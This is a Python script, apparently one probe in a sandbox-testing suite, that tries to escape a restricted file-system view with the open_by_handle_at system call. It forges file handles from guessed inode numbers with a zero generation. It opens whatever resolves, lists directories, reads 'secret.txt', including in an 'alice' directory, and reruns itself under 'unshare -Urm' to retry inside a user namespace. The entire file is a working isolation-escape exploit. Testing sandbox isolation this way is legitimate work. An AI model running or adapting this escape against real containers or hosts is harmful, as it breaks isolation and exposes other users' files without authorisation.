#!/usr/bin/env python3
# title: open_by_handle_at, with and without a user namespace
# door: any
# blind: yes
"""Takes the handle of a directory that the view shows and asks for its neighbours by guessed inode numbers, with a generation of 0,
which some file systems take for any."""

import ctypes
import os
import struct
import sys

AT_FDCWD = -100
AT_EMPTY_PATH = 0x1000
GUESSES = 4000
libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def handle_of(path):
    handle, mount = Handle(size=128), ctypes.c_int()
    if libc.name_to_handle_at(AT_FDCWD, path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0) < 0:
        return None
    return handle


def look(fd):
    for name in ("", "alice"):
        try:
            there = os.open(name or ".", os.O_RDONLY, dir_fd=fd)
            print(*os.listdir(there), sep="\n")
            print(open(os.open("secret.txt", os.O_RDONLY, dir_fd=there)).read())
        except OSError:
            pass


def guess(path):
    handle = handle_of(path)
    if handle is None:
        return
    mount = os.open(path, os.O_RDONLY)
    ino = os.stat(path).st_ino
    for inode in (2, 64, 128, 256, *range(max(ino - GUESSES, 1), ino + GUESSES)):
        other = Handle(size=8, type=1)
        struct.pack_into("<II", other.bytes, 0, inode & 0xFFFFFFFF, 0)
        fd = libc.open_by_handle_at(mount, ctypes.byref(other), os.O_RDONLY)
        if fd >= 0:
            look(fd)
            os.close(fd)
    fd = libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY)
    print(f"the handle of {path} itself: {os.strerror(ctypes.get_errno()) if fd < 0 else 'opened'}")
    if fd >= 0:
        look(os.open("..", os.O_RDONLY, dir_fd=fd))


def attack():
    for path in (os.environ["HOME"], "/usr", "/"):
        guess(path)


if len(sys.argv) > 1:
    attack()
else:
    print("tried: open_by_handle_at", flush=True)
    attack()
    sys.stdout.flush()
    os.system(f"unshare -Urm python3 '{sys.argv[0]}' inside 2>&1")
